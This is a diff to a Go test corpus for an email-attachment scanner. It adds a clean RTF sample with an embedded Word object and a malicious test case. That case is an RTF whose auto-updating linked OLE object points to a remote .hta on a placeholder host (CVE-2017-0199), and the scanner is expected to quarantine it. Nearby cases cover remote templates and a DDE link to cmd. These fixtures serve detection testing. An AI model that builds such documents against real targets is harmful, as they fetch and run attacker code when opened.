@@ -1,6 +1,7 @@
 package corpus
 
 import (
+	"bytes"
 	"encoding/base64"
 	"encoding/hex"
 	"fmt"
@@ -127,6 +128,9 @@ func officeClean() []Sample {
 	add(ok("slk-sum", "a SYLK sheet as LibreOffice exports it, with a SUM formula"),
 		mail{subject: "Totals", root: multipart("mixed", text("The totals as SYLK.\n"),
 			attach("application/octet-stream", "totals.slk", []byte("ID;PCALCOOO32\r\nC;X1;Y1;K\"Item\"\r\nC;X2;Y1;K\"Amount\"\r\nC;X1;Y2;K\"A\"\r\nC;X2;Y2;K12\r\nC;X1;Y3;K\"Total\"\r\nC;X2;Y3;K12;ESUM(B2:B2)\r\nE\r\n")))})
+	add(ok("rtf-embedded-object", "an RTF letter with an embedded (not linked) Word object, as Word saves one"),
+		mail{subject: "Letter", root: multipart("mixed", text("The letter with the form inside.\n"),
+			attach("application/rtf", "letter.rtf", rtfObject("Letter", "Word.Document.8", f.OLE1("Word.Document.8", f.OLELink("")), false)))})
 	add(ok("xlsb-sum", "a binary workbook (.xlsb) whose cells sum and join with formulas, no macro sheet"),
 		mail{subject: "Quarter", root: multipart("mixed", text("The quarter's figures.\n"),
 			attach(ctXlsb, "quarter.xlsb", f.XLSB(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Q3", Formulas: []f.XLSFormula{
@@ -227,6 +231,11 @@ func officeCases() []officeCase {
 			action: policy.Quarantine, subject: "Agenda", body: "The agenda for Monday.\n", ctype: "application/rtf", file: "agenda.rtf",
 			data:  []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}{\*\template \'68ttps://templates.files.example.invalid/agenda.dotm}\pard Agenda\par}`),
 			wants: []relWant{{"heuristic", "remote-template", ""}}},
+		{name: "rtf-ole2link", about: "RTF with an auto-updating linked OLE object (\\objautlink\\objupdate) whose URL moniker names a remote .hta: CVE-2017-0199, Word fetches it as it opens the file",
+			action: policy.Quarantine, subject: "Order", body: "The order.\n", ctype: "application/rtf", file: "order.rtf",
+			data: bytes.Replace(rtfObject("Order", "Word.Document.8", f.OLE1("Word.Document.8", f.OLELink("http://files.example.invalid/order.hta")), false),
+				[]byte(`\object\objemb`), []byte(`\object\objautlink\objupdate\rsltpict`), 1),
+			wants: []relWant{{"heuristic", "remote-template", "/object1.Word.Document.8.bin/Root Entry/Ole"}}},
 		{name: "xlsx-ddelink", about: "xlsx with an external DDE link to cmd",
 			action: policy.Reject, subject: "Figures", body: "Figures attached.\n", ctype: ctXlsx, file: "figures.xlsx",
 			data:  xlsxDDE(),
